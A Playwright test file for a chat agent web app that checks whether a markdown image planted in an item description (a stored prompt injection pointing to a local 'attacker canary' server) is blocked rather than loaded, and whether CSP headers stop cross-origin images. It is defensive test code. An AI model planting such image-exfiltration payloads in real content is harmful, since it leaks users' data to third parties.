import { type APIRequestContext, expect, type Request, test } from "@playwright/test";
import { chatUser, lastAnswer, sendMessage, waitForStatus } from "./support/agent";

// The echo server (another origin: a different port on 127.0.0.1) plays the attacker's canary:
// it records every GET, so a request made by the browser would show up there.
const canary = () => {
  const url = process.env.E2E_ECHO_URL;
  if (!url) throw new Error("E2E_ECHO_URL is not set (playwright.config.ts sets it)");
  return url;
};

async function canaryHits(request: APIRequestContext): Promise<string[]> {
  return (await (await request.get(`${canary()}/hits`)).json()) as string[];
}

test("an image in an answer pointing elsewhere is never loaded: it becomes a link naming the host", async ({
  page,
  request,
}) => {
  const user = await chatUser(page, request);
  const marker = `leak-${Date.now()}`;
  // Stored injection: text the agent will repeat in its answer (an item description).
  const created = await request.post("/api/v1/items/", {
    headers: { Authorization: `Bearer ${user.token}` },
    data: { title: "Poisoned item", description: `![x](${canary()}/img?d=${marker})` },
  });
  expect(created.status()).toBe(200);

  const browserRequests: string[] = [];
  page.on("request", (r: Request) => browserRequests.push(r.url()));
  await page.goto("/chat");
  await sendMessage(page, "show my items");
  await waitForStatus(page, "success");

  const answer = lastAnswer(page).getByTestId("answer");
  const placeholder = answer.getByTestId("blocked-image");
  await expect(placeholder).toBeVisible();
  await expect(placeholder).toContainText(`Image from ${new URL(canary()).host} not loaded`);
  await expect(placeholder).toHaveAttribute("href", `${canary()}/img?d=${marker}`);
  await expect(placeholder).toHaveAttribute("rel", /noopener/);
  await expect(answer.locator("img")).toHaveCount(0);

  await page.waitForTimeout(500); // give any stray load a chance to show up
  expect(browserRequests.filter((url) => url.includes(marker))).toEqual([]);
  expect((await canaryHits(request)).filter((path) => path.includes(marker))).toEqual([]);
});

test("the CSP header is sent and blocks an image from another origin", async ({ page, request }) => {
  await chatUser(page, request);
  const cspErrors: string[] = [];
  page.on("console", (message) => {
    if (message.type() === "error" && message.text().includes("Content Security Policy")) {
      cspErrors.push(message.text());
    }
  });
  const response = await page.goto("/chat");
  const csp = response?.headers()["content-security-policy"] ?? "";
  expect(csp).toContain("img-src 'self'");
  expect(csp).toContain("frame-ancestors 'none'");
  expect(response?.headers()["x-content-type-options"]).toBe("nosniff");
  // The app itself runs under the policy: the chat renders and nothing was blocked.
  await expect(page.getByLabel("Message the agent")).toBeVisible();
  for (const path of ["/items", "/settings", "/chat"]) {
    await page.goto(path);
    await page.waitForLoadState("networkidle");
  }
  expect(cspErrors).toEqual([]);

  const marker = `csp-${Date.now()}`;
  const violation = await page.evaluate(async (src) => {
    return await new Promise<{ directive: string; blocked: string }>((resolve) => {
      document.addEventListener(
        "securitypolicyviolation",
        (event) => resolve({ directive: event.effectiveDirective, blocked: event.blockedURI }),
        { once: true },
      );
      const img = document.createElement("img");
      img.src = src;
      document.body.appendChild(img);
    });
  }, `${canary()}/probe.png?d=${marker}`);
  expect(violation.directive).toBe("img-src");
  expect(violation.blocked).toContain(marker);
  expect((await canaryHits(request)).filter((path) => path.includes(marker))).toEqual([]);
});
